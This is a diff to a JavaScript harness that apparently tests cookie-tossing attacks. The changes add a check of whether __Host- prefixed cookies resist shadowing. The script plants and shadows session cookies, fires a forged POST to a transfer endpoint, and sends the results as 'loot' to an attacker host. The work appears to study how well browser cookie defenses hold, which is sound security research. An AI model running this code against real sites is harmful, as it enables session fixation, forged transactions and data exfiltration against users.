@@ -26,13 +26,11 @@
       };
     });
 
-  const seen = async () => (await (await ask(`${home}/cookies`)).json()).session ?? [];
-
-  async function spoil(line, undo) {
-    document.cookie = `${name}session=${line}`;
-    const values = await seen();
-    if (undo) document.cookie = `${name}session=; Max-Age=0; ${undo}`;
-    return values;
+  async function spoil(line, undo, label = "session", prefix = "") {
+    document.cookie = `${prefix}${name}${label}=${line}`;
+    const seen = await (await ask(`${home}/cookies`)).json();
+    if (undo) document.cookie = `${prefix}${name}${label}=; Max-Age=0; ${undo}`;
+    return seen[prefix + label] ?? [];
   }
 
   addEventListener("load", async () => {
@@ -45,6 +43,7 @@
       after_overwriting: await spoil("planted; Path=/"),
       after_removing: await spoil("; Path=/; Max-Age=0"),
       after_shadowing: await spoil(`planted; Path=${home}`, `Path=${home}`),
+      after_shadowing_prefixed: await spoil(`planted; Secure; Path=${home}`, "", "fixed", "__Host-"),
       rode: (await ask(`${home}/transfer`, { method: "POST" })).status,
     };
     await ask(`${attacker}/${run}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
